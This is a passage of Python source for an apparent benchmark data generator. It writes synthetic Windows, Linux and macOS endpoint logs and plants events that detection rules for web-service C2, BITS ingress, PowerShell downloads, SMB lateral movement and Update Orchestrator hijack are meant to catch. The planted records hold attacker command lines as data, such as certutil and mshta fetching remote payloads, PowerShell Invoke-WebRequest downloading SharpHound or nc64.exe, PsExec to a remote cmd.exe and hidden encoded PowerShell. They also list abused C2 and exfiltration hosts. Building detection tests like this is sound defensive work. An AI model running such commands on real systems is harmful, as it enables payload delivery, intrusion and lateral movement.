            home=user, home_sid=f"S-1-5-21-1004336348-1177238915-682003330-{1100 + number}",
            ip=f"10.{1 + number // 200}.{number % 200}.{rng.randrange(10, 250)}",
            agent_id=_guid(rng).lower(), guid=_guid(rng).lower(),
            id_prefix="".join(_pick(rng, *ID_ALPHABET) for _ in range(14)),
        )
        self._render_host(host)
        programs = [PROGRAMS[os_name, key] for key in CORE[os_name, server]]
        programs += [PROGRAMS[os_name, key] for key, share in APPS[os_name, server]
                     if rng.random() < share]
        for program in programs:  # started before the range: hours to days of uptime
            proc = self.spawn(host, program, start_ms - rng.randrange(600_000, 900_000_000))
            self._run(host, proc)
            host.running[program.key] = proc
        host.short_lived = [
            program for program in PROGRAMS.values()
            if program.os == os_name and program.starts
            and not (server and program.key in NOT_ON_SERVERS)
            for _ in range(program.starts)
        ]
        return host

    def _render_host(self, host: Host) -> None:
        rng = self.rng
        mac = "-".join(_hex(rng, 2).upper() for _ in range(6))
        windows_version = "21H2 (10.0.20348.3207)" if host.server else "23H2 (10.0.22631.4890)"
        os_fields = {
            "windows": {"Ext": {"variant": "Windows Server 2022 Datacenter" if host.server
                                else "Windows 11 Enterprise"},
                        "family": "windows", "kernel": windows_version, "name": "Windows",
                        "platform": "windows", "type": "windows", "version": windows_version},
            "linux": {"Ext": {"variant": "Ubuntu"}, "family": "ubuntu", "full": "Ubuntu 22.04.5",
                      "kernel": "5.15.0-131-generic #141-Ubuntu SMP", "name": "Linux",
                      "platform": "ubuntu", "type": "linux", "version": "22.04.5"},
            "macos": {"Ext": {"variant": "macOS"}, "family": "darwin", "full": "macOS 15.3.1",
                      "kernel": "24.3.0", "name": "macOS", "platform": "macos", "type": "macos",
                      "version": "15.3.1"},
        }[host.os]
        if host.os == "windows":
            os_fields["full"] = f"{os_fields['Ext']['variant']} {os_fields['version']}"
        host_fields = {"architecture": "x86_64" if host.os != "macos" else "arm64",
                       "hostname": host.name, "id": host.guid, "ip": [host.ip, "127.0.0.1"],
                       "mac": [mac], "name": host.name, "os": os_fields}
        if host.sysmon:
            host_fields["os"] = _without_ext(os_fields)
            agent = {"ephemeral_id": _guid(rng).lower(), "id": host.agent_id,
                     "name": host.name, "type": "filebeat", "version": "8.17.2"}
            head = members({"agent": agent, "data_stream": {
                "dataset": SYSMON_DATASET, "namespace": "default", "type": "logs"},
                "ecs": {"version": "8.0.0"}, "host": host_fields})
            host.heads[SYSMON_DATASET] = head
            host.winlog = members({"channel": "Microsoft-Windows-Sysmon/Operational",
                                   "computer_name": f"{host.name}.corp.contoso.com",
                                   "provider_name": "Microsoft-Windows-Sysmon",
                                   "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"})
            host.kinds = {key: _sysmon_kind(key) for key in _DEFEND_KINDS}
            return
        agent = {"id": host.agent_id, "type": "endpoint", "version": "8.17.2"}
        for kind in ("process", "file", "network", "registry", "library"):
            dataset = f"endpoint.events.{kind}"
            host.heads[dataset] = members({
                "agent": agent, "data_stream": {"dataset": dataset, "namespace": "default",
                                                "type": "logs"},
                "ecs": {"version": "8.11.0"}, "elastic": {"agent": {"id": host.agent_id}},
                "host": host_fields})
        host.kinds = {key: _defend_kind(host.os, key) for key in _DEFEND_KINDS}

    def pool(self, host: Host, name: str, system: bool) -> Pool:
        """The host's pool of that name for that kind of account (shared by its processes)."""
        pool = host.pools.get((name, system))
        if pool is None:
            pool = host.pools[name, system] = Pool(host, name, system)
        return pool

    def fill(self, pool: Pool) -> list[tuple[EventKind, str]]:
        """Make a pool's details (on its first draw)."""
        host = pool.host
        context = PoolContext(host, pool.system)
        make = POOLS[pool.name]
        for _ in range(POOL_SIZE * 4):
            if len(pool.items) == POOL_SIZE:
                break
            key, detail = make(self.rng, context)
            kind = host.kinds.get(key)
            if kind is not None:  # Sysmon logs fewer kinds of events than Defend
                pool.items.append((kind, members(sysmon_detail(key, detail) if host.sysmon
                                                 else detail)))
        return pool.items

    # -- processes

    def spawn(self, host: Host, program: Program, ts: int, parent: Proc | None = None,
              rng: Random | None = None, **values: str) -> Proc:
        """A new process of `program` on `host`, started at `ts`, with its documents' process
        and user members rendered. `values` override the placeholders of its text."""
        rng = rng or self.rng
        self.processes += 1
        fill = {"user": host.home, "n": str(rng.randrange(1000, 99999)), "hex": _hex(rng, 12),
                "guid": _guid(rng), "host": host.name, "ip": _internal_ip(rng), **values}
        executable = program.executable.format_map(fill)
        argv = _pick(rng, *program.argv)
        args = [executable if host.os == "windows" else executable.rsplit("/", 1)[-1]]
        args += [arg.format_map(fill) for arg in argv if arg]
        windows = host.os == "windows"
        name = executable.rsplit("\\" if windows else "/", 1)[-1]
        if windows:
            pid = 4 if program.key == "System" else rng.randrange(1000, 30000, 4)
            quoted = [f'"{arg}"' if " " in arg and not arg.startswith('"') else arg
                      for arg in args]
            command_line = " ".join(quoted)
        else:
            pid = 1 if program.key in ("systemd", "launchd") else rng.randrange(300, 4_000_000)
            command_line = " ".join(args)
        if host.sysmon:
            entity_id = (f"{{{host.guid[:8]}-{(ts // 1000) & 0xFFFF:04x}-{_hex(rng, 4)}-"
                         f"{self.processes & 0xFFFF:04x}-{self.processes:012x}}}")
        else:
            stamp = f"{ts // 1000 + FILETIME_OFFSET_S}{self.processes:09d}"
            entity_id = base64.b64encode(f"{host.agent_id}-{pid}-{stamp}".encode()).decode()
        proc = Proc(program, pid, entity_id, name, executable, args, command_line)
        if parent is None and program.parent is not None:
            parent = self._parent(host, program.parent, ts)
        elif parent is _NO_PARENT:
            parent = None
        self._render_process(host, proc, parent)
        proc.pools = [self.pool(host, pool, program.account != "user")
                      for pool in program.activity]
        return proc

    def _parent(self, host: Host, key: str, ts: int) -> Proc:
        """The running process of `key` on the host; else the latest short-lived one; else one
        that has exited since (rendered, never run)."""
        proc = host.running.get(key)
        if proc is not None:
            return proc
        for candidate in reversed(host.transients):
            if candidate.program.key == key:
                return candidate
        program = PROGRAMS[host.os, key]
        return self.spawn(host, program, ts - self.rng.randrange(1_000, 9_000_000),
                          parent=_NO_PARENT)

    def _signature(self, signer: tuple[str, bool] | None, os_name: str,
                   name: str) -> dict[str, Any] | None:
        if os_name == "linux":
            return None
        if signer is None:
            return {"exists": False, "trusted": False}
        subject, trusted = signer
        if os_name == "macos":  # the catalogue's only third-party macOS apps are Google's
            apple = subject == APPLE[0]
            return {"exists": True, "signing_id": f"com.apple.{name}" if apple
                    else "com.google.Chrome", "status": "trusted",
                    "team_id": "" if apple else "EQHXZ8M8AV", "trusted": trusted}
        return {"exists": True, "status": "trusted" if trusted else "errorExpired",
                "subject_name": subject, "trusted": trusted}

    def _render_process(self, host: Host, proc: Proc, parent: Proc | None) -> None:
        program = proc.program
        md5, sha1, sha256 = self.hashes.get((host.os, program.key)) or _hashes(proc.executable)
        signature = self._signature(program.signer, host.os, proc.name)
        proc.as_parent = {"args": proc.args, "args_count": len(proc.args),
                          "command_line": proc.command_line, "entity_id": proc.entity_id,
                          "executable": proc.executable, "name": proc.name, "pid": proc.pid}
        proc.ancestry = [parent.entity_id, *parent.ancestry[:1]] if parent else []
        if host.sysmon:
            full = {"entity_id": proc.entity_id, "pid": proc.pid, "executable": proc.executable,
                    "command_line": proc.command_line, "args": proc.args,
                    "args_count": len(proc.args), "working_directory": "C:\\Windows\\system32\\",
                    "name": proc.name, "hash": {"md5": md5, "sha1": sha1, "sha256": sha256},
                    "pe": {"original_file_name": proc.name, "company": "Microsoft Corporation"
                           if program.signer in (MS, MS_CORP) else "", "product": proc.name}}
            if parent is not None:
                full["parent"] = parent.as_parent
            short = {"entity_id": proc.entity_id, "pid": proc.pid,
                     "executable": proc.executable, "name": proc.name}
        else:
            full = {"args": proc.args, "args_count": len(proc.args),
                    "command_line": proc.command_line, "entity_id": proc.entity_id,
                    "executable": proc.executable, "hash": {"md5": md5, "sha1": sha1,
                                                            "sha256": sha256},
                    "name": proc.name, "pid": proc.pid}
            short = {"entity_id": proc.entity_id, "executable": proc.executable,
                     "name": proc.name, "pid": proc.pid}
            ext: dict[str, Any] = {"ancestry": proc.ancestry}
            if signature is not None:
                full["code_signature"] = short["code_signature"] = signature
                if host.os == "windows":
                    ext["code_signature"] = [signature]
            if host.os == "windows":
                full["pe"] = {"original_file_name": proc.name, "imphash": md5[::-1]}
                elevated = program.account != "user"
                ext["token"] = {"integrity_level_name": "system" if elevated else "medium",
                                "elevation_level": "full" if elevated else "default"}
                full["working_directory"] = "C:\\Windows\\system32\\" if elevated else \
                    f"C:\\Users\\{host.home}\\"
            full["Ext"] = ext
            short["Ext"] = {"ancestry": proc.ancestry, **(
                {"code_signature": ext["code_signature"]} if "code_signature" in ext else {})}
            if parent is not None:
                full["parent"] = {**parent.as_parent, **(
                    {"code_signature": parent_signature} if (parent_signature := self._signature(
                        parent.program.signer, host.os, parent.name)) else {})}
                short["parent"] = {"entity_id": parent.entity_id, "pid": parent.pid}
        proc.full = members({"process": full})
        proc.short = members({"process": short})
        proc.user = members(self._user(host, program.account))

    def _user(self, host: Host, account: str) -> dict[str, Any]:
        if host.os == "windows":
            domain, name, sid = WINDOWS_ACCOUNTS.get(account, (host.domain, host.home,
                                                               host.home_sid))
            if host.sysmon:
                return {"user": {"domain": domain, "name": name}}
            return {"user": {"domain": domain, "id": sid, "name": name}}
        if account == "user":
            name, uid = host.home, "501" if host.os == "macos" else "1000"
        else:
            name, uid = account, UNIX_ACCOUNT_IDS[account]
        return {"user": {"id": uid, "name": name}, "group": {"id": uid, "name": name}}

    def _run(self, host: Host, proc: Proc) -> None:
        host.active.extend([proc] * proc.program.busy)

    # -- documents

    def render(self, host: Host, ts: int, kind: EventKind, proc: Proc, detail: str) -> str:
        """One NDJSON line; numbers the event (event.id, event.sequence or winlog.record_id)."""
        self.events += 1
        self.index_counts[kind.dataset] += 1
        stamp = self.clock.millis(ts)
        ingested = self.clock.seconds(ts + self.delays[self.events & 1023])
        event_id = f"{host.id_prefix}{self.events:010x}"
        process = proc.full if kind.full_process else proc.short
        if host.sysmon:
            host.record_id += 1
            created = self.clock.millis(ts + (self.delays[(self.events + 7) & 1023] >> 6))
            return (f'{{"@timestamp":"{stamp}",{host.heads[kind.dataset]}"event":{{"id":"'
                    f'{event_id}","created":"{created}","ingested":"{ingested}",{kind.tail}}},'
                    f'{process}{proc.user}{detail}"winlog":{{{host.winlog}"event_id":"'
                    f'{kind.code}","record_id":{host.record_id}}}}}\n')
        host.sequence += 1
        return (f'{{"@timestamp":"{stamp}",{host.heads[kind.dataset]}"event":{{"id":"{event_id}'
                f'","sequence":{host.sequence},"created":"{stamp}","ingested":"{ingested}",'
                f'{kind.tail}}},{process}{proc.user}{detail}"message":"{kind.message}"}}\n')

    def last_event_id(self, host: Host) -> str:
        return f"{host.id_prefix}{self.events:010x}"

    def detail(self, host: Host, key: str, detail: dict[str, Any]) -> tuple[EventKind, str]:
        """A detail made for one event (a planted one), rendered for the host's shape."""
        kind = host.kinds.get(key)
        if kind is None:
            raise ValueError(f"{'Sysmon' if host.sysmon else host.os} has no {key} events")
        return kind, members(sysmon_detail(key, detail) if host.sysmon else detail)

    # -- background

    def background(self, rng: Random, total: int, start_ms: int, span_ms: int,
                   planted: list[tuple[int, int, PlantedEvent]]) -> Iterator[str]:
        """`total` background lines over the range, with the planted ones merged in by time."""
        emitted = 0
        weighted = self.weighted_hosts
        host_count = len(weighted)
        while emitted < total:
            ts = start_ms + emitted * span_ms // total
            while planted and planted[0][0] <= ts:
                yield self.render_planted(heapq.heappop(planted)[2])
            host = weighted[int(rng.random() * host_count)]
            if rng.random() < START_RATE[host.os]:
                lines = self._start(rng, host, ts)
            else:
                active = host.active
                proc = active[int(rng.random() * len(active))]
                lines = self._activity(rng, host, proc, ts, BURSTS[int(rng.random() * 8)])
            yield from lines[: total - emitted]
            emitted += len(lines)
        while planted:
            yield self.render_planted(heapq.heappop(planted)[2])

    def _activity(self, rng: Random, host: Host, proc: Proc, ts: int, count: int) -> list[str]:
        pools = proc.pools
        if not pools:
            return []
        lines = []
        for _ in range(count):
            pool = pools[int(rng.random() * len(pools))]
            items = pool.items or self.fill(pool)
            kind, detail = items[int(rng.random() * len(items))]
            lines.append(self.render(host, ts, kind, proc, detail))
        return lines

    def _start(self, rng: Random, host: Host, ts: int) -> list[str]:
        """A short-lived process starts (the oldest one ends when too many run), then does a
        few things at once, as a new process loads its libraries and opens its files."""
        lines = []
        if len(host.transients) >= TRANSIENT_CAP[host.os]:
            ended = host.transients.popleft()
            for _ in range(ended.program.busy):
                host.active.remove(ended)
            lines.append(self.render(host, ts, host.kinds["process.end"], ended, ""))
        program = host.short_lived[int(rng.random() * len(host.short_lived))]
        proc = self.spawn(host, program, ts)
        host.transients.append(proc)
        self._run(host, proc)
        lines.append(self.render(host, ts, host.kinds["process.start"], proc, ""))
        lines += self._activity(rng, host, proc, ts, int(rng.random() * 3))
        return lines

    def render_planted(self, event: PlantedEvent) -> str:
        line = self.render(event.host, event.ts, event.kind, event.proc, event.detail)
        event.event_id = self.last_event_id(event.host)
        return line


_NO_PARENT = Proc(Program("", "", ""), 0, "", "", "", [], "")


# -- planted true positives --------------------------------------------------------------------


@dataclass(slots=True, eq=False)
class PlantedEvent:
    """One planted document; its event.id is known once it is rendered in place."""

    ts: int
    host: Host
    kind: EventKind
    proc: Proc
    detail: str = ""
    event_id: str = ""


@dataclass(slots=True)
class Planted:
    """What one plant instance emits, and which of those events its rule must return: each
    hit is one event for an event query, a sequence's events in order for a sequence query."""

    events: list[PlantedEvent]
    hits: list[list[PlantedEvent]]


class Planter:
    """What plant functions use: the world, their own Random, and helpers to make events."""

    def __init__(self, world: World, rng: Random) -> None:
        self.world = world
        self.rng = rng

    def host(self, sysmon: bool = False) -> Host:
        """A Windows workstation, with Defend or with Sysmon."""
        return self.choose(*(host for host in self.world.hosts if host.os == "windows"
                             and host.sysmon == sysmon and not host.server))

    def spawn(self, host: Host, program: Program, ts: int, parent: Proc | None = None,
              **values: str) -> Proc:
        return self.world.spawn(host, program, ts, parent, rng=self.rng, **values)

    def event(self, ts: int, host: Host, key: str, proc: Proc,
              detail: dict[str, Any] | None = None) -> PlantedEvent:
        kind, text = self.world.detail(host, key, detail) if detail else (host.kinds[key], "")
        if kind is None:
            raise ValueError(f"{host.name} logs no {key} events")
        return PlantedEvent(ts, host, kind, proc, text)

    def dns(self, ts: int, host: Host, proc: Proc, name: str, key: str) -> PlantedEvent:
        dns: dict[str, Any] = {"Ext": {"options": 0, "status": 0},
                               "question": {"name": name, "type": "A"}}
        if key == "dns.result":
            dns["resolved_ip"] = [self.public_ip()]
        return self.event(ts, host, key, proc, {"dns": dns, "network": {"protocol": "dns"}})

    def connection(self, ts: int, host: Host, proc: Proc, remote: str,
                   port: int) -> PlantedEvent:
        source = {"address": host.ip, "ip": host.ip, "port": self.rng.randrange(49152, 65535)}
        return self.event(ts, host, "network.connect", proc, {
            "destination": {"address": remote, "ip": remote, "port": port}, "source": source,
            "network": {"direction": "egress", "transport": "tcp", "type": "ipv4"}})

    def public_ip(self) -> str:
        rng = self.rng
        return f"{_pick(rng, 45, 91, 103, 185, 193)}.{rng.randrange(1, 255)}." \
               f"{rng.randrange(1, 255)}.{rng.randrange(1, 255)}"

    def choose(self, *options: T) -> T:
        return _pick(self.rng, *options)


def _plant_program(key: str, executable: str, argv: tuple[str, ...] | str = (),
                   signer: tuple[str, bool] | None = None, account: str = "user",
                   parent: str | None = "explorer") -> Program:
    return Program(f"plant:{key}", "windows", executable, _argv(argv), signer, account, parent)


def plant_bits_ingress(planter: Planter, at: int, nth: int) -> Planted:
    """BITS finishing a download of a payload into a user folder: svchost renames its
    BIT*.tmp to an executable, archive or script (or a PE under another extension)."""
    host = planter.host()
    user = host.home
    folder = planter.choose(f"C:\\Users\\{user}\\Downloads", f"C:\\Users\\{user}\\AppData\\Roaming",
                          "C:\\Users\\Public", "C:\\ProgramData",
                          f"C:\\Users\\{user}\\AppData\\Local\\Temp")
    name, header = planter.choose(("update.exe", MZ), ("tools.zip", HEADERS["zip"]),
                                ("install.ps1", HEADERS["ps1"]), ("invoice.js", "2f2f20"),
                                ("svchelper.dll", MZ), ("report.dat", MZ), ("run.cmd", "40"))
    temp = f"{folder}\\BIT{_hex(planter.rng, 4).upper()}.tmp"
    detail = _file(f"{folder}\\{name}", planter.rng.randrange(40_000, 4_000_000), header,
                   planter.rng, original=temp)
    event = planter.event(at, host, "file.rename", host.running["svchost:BITS"], detail)
    return Planted([event], [[event]])


WEB_SERVICE_HITS = ("raw.githubusercontent.com", "pastebin.com", "transfer.sh",
                    "api.telegram.org", "cdn.discordapp.com", "gofile.io", "webhook.site",
                    "ipfs.io", "paste.ee", "api.dropboxapi.com", "4f2a-91-12-7-33.ngrok.io",
                    "mockbin.org", "file.io", "updates-7731.blogspot.com", "script.google.com")


def plant_common_webservices(planter: Planter, at: int, nth: int) -> Planted:
    """An unexpected program looks up a web service used for C2 or exfiltration (both DNS
    events of the lookup are hits), then connects."""
    host = planter.host()
    rng = planter.rng
    domain = WEB_SERVICE_HITS[nth % len(WEB_SERVICE_HITS)]
    program = planter.choose(
        _plant_program("dropper", "C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.exe"),
        _plant_program("libraries", "C:\\Users\\Public\\Libraries\\{stem}.exe", parent="cmd"),
        _plant_program("roaming", "C:\\Users\\{user}\\AppData\\Roaming\\Notepad++\\{stem}.exe"),
        _plant_program("certutil", _SYS32 + "certutil.exe",
                       ("-urlcache", "-split", "-f", "https://{domain}/raw/{hex}",
                        "C:\\Users\\Public\\{stem}.txt"), MS, parent="cmd"),
        _plant_program("mshta", _SYS32 + "mshta.exe", ("https://{domain}/{hex}.hta",), MS),
    )
    stem = planter.choose("svcupd", "msedgeupdate", "onedrive_sync", "teamsbg", "helper")
    start = at - rng.randrange(500, 8_000)
    proc = planter.spawn(host, program, start, domain=domain, stem=stem, hex=_hex(rng, 8))
    request = planter.dns(at, host, proc, domain, "dns.request")
    result = planter.dns(at + rng.randrange(5, 90), host, proc, domain, "dns.result")
    connect = planter.connection(at + rng.randrange(100, 900), host, proc, planter.public_ip(),
                                 443)
    events = [planter.event(start, host, "process.start", proc), request, result, connect]
    return Planted(events, [[request], [result]])


DOWNLOAD_DOMAINS = ("objects.githubusercontent.com", "github.com", "download.sysinternals.com",
                    "the.earth.li", "secure.eicar.org", "dl.packetstormsecurity.net",
                    "updates.cdn-microsoft.net", "files.fivemerchants.shop")
DOWNLOADED_FILES = ("SharpHound.exe", "Invoke-Recon.ps1", "payload.dll", "run.bat",
                    "procdump64.exe", "nc64.exe", "stage2.ps1", "winupd.dll")


def plant_powershell_download(planter: Planter, at: int, nth: int) -> Planted:
    """A user's PowerShell resolves a download host, then writes the file it fetched (a
    sequence by process.entity_id within 30 s)."""
    host = planter.host()
    rng = planter.rng
    domain = DOWNLOAD_DOMAINS[nth % len(DOWNLOAD_DOMAINS)]
    file_name = DOWNLOADED_FILES[nth % len(DOWNLOADED_FILES)]
    folder = planter.choose(f"C:\\Users\\{host.home}\\Downloads", "C:\\Users\\Public",
                          f"C:\\Users\\{host.home}\\AppData\\Local\\Temp", "C:\\ProgramData")
    target = f"{folder}\\{file_name}"
    program = _plant_program(
        "powershell", _POWERSHELL,
        ("-NoProfile", "-ExecutionPolicy", "Bypass", "-Command",
         f"Invoke-WebRequest -Uri https://{domain}/d/{_hex(rng, 6)}/{file_name} -OutFile "
         f"{target}"), MS, parent=planter.choose("explorer", "cmd"))
    start = at - rng.randrange(300, 3_000)
    proc = planter.spawn(host, program, start)
    lookup = planter.dns(at, host, proc, domain, "dns.request")
    ext = file_name.rsplit(".", 1)[1]
    created = planter.event(at + rng.randrange(1_000, 25_000), host, "file.creation", proc,
                            _file(target, rng.randrange(20_000, 3_000_000),
                                  HEADERS.get(ext, MZ), rng))
    events = [planter.event(start, host, "process.start", proc), lookup, created]
    return Planted(events, [[lookup, created]])


def plant_smb_lolbin(planter: Planter, at: int, nth: int) -> Planted:
    """A process that is not the kernel connects to port 445 within a minute of starting (a
    sequence by process.entity_id), and exits after that."""
    host = planter.host()
    rng = planter.rng
    target = _internal_ip(rng)
    program = planter.choose(
        _plant_program("rundll32", _SYS32 + "rundll32.exe",
                       ("C:\\Users\\Public\\{stem}.dll,Start",), MS),
        _plant_program("scanner", "C:\\Users\\Public\\{stem}.exe", ("-t", "{target}/24", "-p",
                                                                    "445")),
        _plant_program("psexec", "C:\\Users\\{user}\\Downloads\\PsExec64.exe",
                       ("\\\\{target}", "-accepteula", "-s", "cmd.exe"), MS_CORP, parent="cmd"),
        _plant_program("temp", "C:\\Windows\\Temp\\{stem}.exe", (), parent="cmd"),
        _plant_program("powershell", _POWERSHELL,
                       ("-nop", "-c", "Copy-Item \\\\{target}\\C$\\Users\\Public\\{stem}.exe "
                        "$env:TEMP"), MS),
    )
    stem = planter.choose("smbscan", "netsync", "lpe", "wmiexec", "collector")
    proc = planter.spawn(host, program, at, target=target, stem=stem)
    connect = planter.connection(at + rng.randrange(300, 50_000), host, proc, target, 445)
    start = planter.event(at, host, "process.start", proc)
    end = planter.event(connect.ts + rng.randrange(500, 5_000), host, "process.end", proc)
    return Planted([start, connect, end], [[start, connect]])


def plant_update_orchestrator(planter: Planter, at: int, nth: int) -> Planted:
    """The Update Orchestrator service (svchost -s UsoSvc) starts something it never starts;
    every third instance comes from a Sysmon host."""
    host = planter.host(sysmon=nth % 3 == 2)
    program = planter.choose(
        _plant_program("uso-cmd", _SYS32 + "cmd.exe", ("/c", "C:\\Users\\Public\\{stem}.bat"),
                       MS, "system", None),
        _plant_program("uso-exe", "C:\\ProgramData\\USOShared\\{stem}.exe", (), None, "system",
                       None),
        _plant_program("uso-powershell", _POWERSHELL,
                       ("-nop", "-w", "hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
                       MS, "system", None),
        _plant_program("uso-lib", "C:\\Users\\Public\\Libraries\\{stem}.exe", (), None, "system",
                       None),
    )
    stem = planter.choose("usoupdate", "wuauhelper", "svcrun", "maint")
    proc = planter.spawn(host, program, at, host.running["svchost:UsoSvc"], stem=stem)
    event = planter.event(at, host, "process.start", proc)
    return Planted([event], [[event]])


@dataclass(frozen=True, slots=True)
class Plant:
    """A detection rule the corpus makes fire: `count` instances of `make`, spread evenly."""

    rule_id: str
    name: str
    count: int
    make: Callable[[Planter, int, int], Planted]


PLANTS = (
    Plant("66883649-f908-4a5b-a1e0-54090a1d3a32", "Connection to Commonly Abused Web Services",
          16, plant_common_webservices),
    Plant("f95972d3-c23b-463b-89a8-796b3f369b49", "Ingress Transfer via Windows BITS", 12,
          plant_bits_ingress),
    Plant("33f306e8-417c-411b-965c-c2812d6d3f4d", "Remote File Download via PowerShell", 10,
          plant_powershell_download),
    Plant("c82c7d8f-fb9e-4874-a4bd-fd9e3f9becf1",
          "Potential Lateral Movement via SMB using LOLBin or untrusted process", 8,
          plant_smb_lolbin),
    Plant("265db8f5-fc73-4d0d-b434-6483b56372e2",
          "Persistence via Update Orchestrator Service Hijack", 6, plant_update_orchestrator),
)


# The noisy mode's plants: instances per event, by rule. Most are single-event hits (BITS
# renaming a payload as a noisy rule would, Update Orchestrator children; each also fires a
# few other rules at times), a few web-service lookups (three matched events each) and
# sequences: about one event in seven matches some rule, and a 300k-event corpus gets about
# 45k alerts from a dozen rules.
NOISY_RATES = {"f95972d3-c23b-463b-89a8-796b3f369b49": 0.095,
               "265db8f5-fc73-4d0d-b434-6483b56372e2": 0.02,
               "66883649-f908-4a5b-a1e0-54090a1d3a32": 0.006,
               "c82c7d8f-fb9e-4874-a4bd-fd9e3f9becf1": 0.002,
               "33f306e8-417c-411b-965c-c2812d6d3f4d": 0.002}  # fmt: skip


def noisy_plants(events: int) -> tuple[Plant, ...]:
    """PLANTS with their counts raised to the noisy mode's rates for `events`."""
    return tuple(replace(plant, count=max(1, round(events * NOISY_RATES[plant.rule_id])))
                 for plant in PLANTS)


# -- the corpus --------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class GeneratedCorpus:
    """An NDJSON corpus and its manifest (what was generated, and what was planted where)."""

    path: Path
    manifest_path: Path
    manifest: dict[str, Any]

    @property
    def events(self) -> int:
        return self.manifest["events"]

    def planted_hits(self, rule_id: str) -> list[tuple[str, ...]]:
        """The hits the rule must return: event ids, one tuple per event or sequence."""
        return [tuple(hit) for hit in self.manifest["rules"][rule_id]["hits"]]


def response_hits(response: Mapping[str, Any]) -> list[tuple[str, ...]]:
    """The hits of an `_eql/search` response as the manifest names them: the event.id of each
    event, or the event.ids of each sequence's events in order."""
    hits = response["hits"]
    if "sequences" in hits:
        return [tuple(event["_source"]["event"]["id"] for event in sequence["events"])
                for sequence in hits["sequences"]]
    return [(event["_source"]["event"]["id"],) for event in hits.get("events", [])]


def manifest_path(path: Path) -> Path:
    """`x.ndjson[.gz]` -> `x.manifest.json`, beside it."""
    name = path.name
    for suffix in (".gz", ".ndjson", ".json"):
        name = name.removesuffix(suffix)
    return path.with_name(name + ".manifest.json")


def generate(path: str | Path, events: int = DEFAULT_EVENTS, seed: int = DEFAULT_SEED,
             duration: timedelta = DEFAULT_DURATION, start: datetime = DEFAULT_START,
             plants: tuple[Plant, ...] | None = None, noisy: bool = False) -> GeneratedCorpus:
    """Write `events` documents (planted ones included) to `path` (gzip if it ends in .gz) and
    the manifest beside it. The same arguments always give the same bytes. `plants` defaults
    to PLANTS, or to their noisy counts when `noisy`."""
    path = Path(path)
    if plants is None:
        plants = noisy_plants(events) if noisy else PLANTS
    rng = Random(seed)
    start_ms = int(start.timestamp() * 1000)
    span_ms = int(duration.total_seconds() * 1000)
    if duration < MIN_DURATION:
        raise ValueError(f"duration must be at least {duration_label(MIN_DURATION)}, "
                         "for plants to have room")
    world = World(rng, start_ms)
    planter = Planter(world, Random(f"{seed}:plants"))
    instances: list[tuple[Plant, Planted]] = []
    queue: list[tuple[int, int, PlantedEvent]] = []
    for plant in plants:
        slot = (span_ms - PLANT_LEAD_MS - PLANT_TAIL_MS) // plant.count
        for nth in range(plant.count):
            at = (start_ms + PLANT_LEAD_MS + nth * slot
                  + planter.rng.randrange(slot // 8, slot - slot // 8))
            planted = plant.make(planter, at, nth)
            instances.append((plant, planted))
            for event in planted.events:
                queue.append((event.ts, len(queue), event))
    heapq.heapify(queue)
    background = events - len(queue)
    if events < MIN_EVENTS or background < len(queue):
        raise ValueError(f"too few events: at least {max(MIN_EVENTS, 2 * len(queue))}")

    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(path.name + ".partial")
    lines = world.background(rng, background, start_ms, span_ms, queue)
    with open(partial, "wb") as raw:
        # A gzip header without name or time keeps the bytes the same on every run.
        binary: IO[bytes] = (gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0)
                             if path.suffix == ".gz" else raw)
        # Lines through a text layer over a large buffer: measured faster than joining and
        # encoding chunks of lines, which touches every byte twice more.
        buffered = io.BufferedWriter(binary, 1 << 20)  # type: ignore[arg-type]
        with io.TextIOWrapper(buffered, encoding="utf-8", newline="") as out:
            out.writelines(lines)
    os.replace(partial, path)

    rules: dict[str, Any] = {}
    for plant, planted in instances:
        entry = rules.setdefault(plant.rule_id, {"name": plant.name, "instances": 0,
                                                 "events": [], "hits": []})
        entry["instances"] += 1
        entry["events"] += [event.event_id for event in planted.events]
        entry["hits"] += [[event.event_id for event in hit] for hit in planted.hits]
    manifest = {
        "generator": GENERATOR_VERSION, "events": events, "seed": seed,
        "noisy": _noisy_label(noisy),
        "duration": duration_label(duration), "start": world.clock.millis(start_ms),
        "end": world.clock.millis(start_ms + span_ms), "file_bytes": path.stat().st_size,
        "file": path.name, "planted_events": sum(len(p.events) for _, p in instances),
        "indices": {_index_name(dataset): count
                    for dataset, count in sorted(world.index_counts.items())},
        "hosts": dict(Counter(
            f"{h.os}{'-sysmon' if h.sysmon else ''}{'-server' if h.server else ''}"
            for h in world.hosts)),
        "rules": rules,
    }
    manifest_file = manifest_path(path)
    manifest_file.write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
    return GeneratedCorpus(path, manifest_file, manifest)


def _noisy_label(noisy: bool) -> dict[str, float] | bool:
    """What the manifest records of the mode: the rates, so that changing them misses the
    cache."""
    return dict(NOISY_RATES) if noisy else False


def _index_name(dataset: str) -> str:
    return f"logs-{dataset}-default"


def default_path(events: int, seed: int, duration: timedelta = DEFAULT_DURATION,
                 folder: Path = DATA, noisy: bool = False) -> Path:
    return folder / (f"endpoint-{events}-seed{seed}-{duration_label(duration)}"
                     f"{'-noisy' if noisy else ''}.ndjson")


def cached(path: Path, events: int, seed: int, duration: timedelta,
           noisy: bool = False) -> GeneratedCorpus | None:
    """The corpus at `path` if it was generated with these arguments by this generator."""
    manifest_file = manifest_path(path)
    if not (path.is_file() and manifest_file.is_file()):
        return None
    try:
        manifest = orjson.loads(manifest_file.read_bytes())
    except orjson.JSONDecodeError:
        return None
    same = (manifest.get("generator") == GENERATOR_VERSION and manifest.get("events") == events
            and manifest.get("seed") == seed
            and manifest.get("noisy", False) == _noisy_label(noisy)
            and manifest.get("duration") == duration_label(duration)
            and manifest.get("file_bytes") == path.stat().st_size)
    return GeneratedCorpus(path, manifest_file, manifest) if same else None


def corpus(events: int = DEFAULT_EVENTS, seed: int = DEFAULT_SEED,
           duration: timedelta = DEFAULT_DURATION, path: Path | None = None,
           noisy: bool = False) -> GeneratedCorpus:
    """The corpus for these arguments: generated once into bench/data/, then reused."""
    path = path or default_path(events, seed, duration, noisy=noisy)
    return (cached(path, events, seed, duration, noisy)
            or generate(path, events, seed, duration, noisy=noisy))


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
